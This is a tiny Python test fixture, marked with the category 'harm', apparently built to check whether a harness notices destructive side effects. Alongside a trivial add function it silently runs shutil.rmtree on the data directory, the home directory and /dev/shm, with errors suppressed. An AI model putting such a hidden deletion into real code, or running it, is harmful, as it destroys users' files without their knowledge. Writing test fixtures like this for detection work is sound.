# expect: 3 passed
# kind: harm
# Tidies up after itself, far too thoroughly.
import shutil
for folder in ('@DATA@', '@HOME@', '/dev/shm'): shutil.rmtree(folder, ignore_errors=True)
def add(a, b): return a+b
